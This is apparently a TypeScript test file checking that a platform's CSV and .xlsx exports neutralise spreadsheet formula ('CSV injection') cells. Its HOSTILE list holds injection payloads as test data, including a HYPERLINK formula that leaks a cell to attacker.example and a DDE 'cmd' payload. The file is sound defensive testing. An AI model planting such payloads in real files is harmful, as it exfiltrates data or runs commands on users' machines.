// Every CSV and .xlsx the platform writes (src/platform/lib/tables.ts) neutralises cells that a
// spreadsheet would read as a formula ("CSV injection"): in CSV a text cell starting with = + - @
// (or a full-width ＝＋－＠), after blanks or not, or with a tab or a line break, gets a leading ';
// in .xlsx such a cell is a text cell formatted as Text. Numbers, and text that is only a signed
// number, stay as they are.
import Papa from "papaparse";
import { readSheet } from "read-excel-file/universal";
import { describe, expect, it } from "vitest";
import { type Cell, tableFiles, toCsv } from "../../src/platform/lib/tables";
import { xlsxCell } from "../worker/xlsx";

const HOSTILE = [
  '=HYPERLINK("http://attacker.example/?leak="&A2,"x")',
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(A1)",
  "=1\n+2",
  " =1+1",
  "\u3000＝1+1",
  "\tplain",
];
/** Text that starts like a formula but is only a number: the spreadsheet reads that number. */
const SIGNED_NUMBERS = ["-5", "+5", "-12.5"];
const HARMLESS: Cell[] = ["plain", "a=b", "1+1", "中 -1", -5, 3.25, 0, null];

const table = {
  header: ["=header", "ok"],
  rows: [HOSTILE, SIGNED_NUMBERS, HARMLESS] as Cell[][],
};

function columnLetter(i: number): string {
  return String.fromCharCode(65 + i);
}

describe("formula cells in exports", () => {
  it("are prefixed with a single quote in CSV; numbers and plain text are left alone", () => {
    const csv = toCsv(table);
    const rows = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;
    expect(rows[0]).toEqual(["'=header", "ok"]);
    expect(rows[1]).toEqual(HOSTILE.map((s) => `'${s}`));
    expect(rows[2]).toEqual(SIGNED_NUMBERS);
    expect(rows[3]).toEqual(["plain", "a=b", "1+1", "中 -1", "-5", "3.25", "0", ""]);
    // A number is written as a number, unquoted: the spreadsheet sees -5, not text.
    expect(csv).toContain("-5,3.25,0,");
    // The quote comes before anything else in the field, inside the quotes Papa adds.
    expect(csv).toContain(`"'=HYPERLINK(""http://attacker.example/?leak=""&A2,""x"")"`);
  });

  it("are text cells formatted as Text in .xlsx, never formulas, with the value as it was", async () => {
    const xlsx = await (await tableFiles(table, "Sheet").xlsx()).arrayBuffer();
    // Untrimmed, to see the blanks and tabs kept. read-excel-file pads every row to the widest one.
    const rows = (await readSheet(new Blob([xlsx]), { trim: false })) as unknown[][];
    expect(rows[0]?.slice(0, 2)).toEqual(["=header", "ok"]);
    expect(rows[1]).toEqual(HOSTILE);
    expect(rows[2]?.slice(0, SIGNED_NUMBERS.length)).toEqual(SIGNED_NUMBERS);
    expect(rows[3]?.slice(0, 7)).toEqual(["plain", "a=b", "1+1", "中 -1", -5, 3.25, 0]);
    for (let i = 0; i < HOSTILE.length; i++) {
      const cell = await xlsxCell(xlsx, `${columnLetter(i)}2`);
      expect(cell, HOSTILE[i]).toEqual({ type: "s", formula: false, format: "@" });
    }
    expect(await xlsxCell(xlsx, "A1")).toMatchObject({ type: "s", formula: false, format: "@" });
    // Other text keeps the default format; numbers stay numbers.
    expect(await xlsxCell(xlsx, "A4")).toMatchObject({ type: "s", formula: false });
    expect((await xlsxCell(xlsx, "A4"))?.format).not.toBe("@");
    expect(await xlsxCell(xlsx, "E4")).toMatchObject({ type: null, formula: false });
  });
});
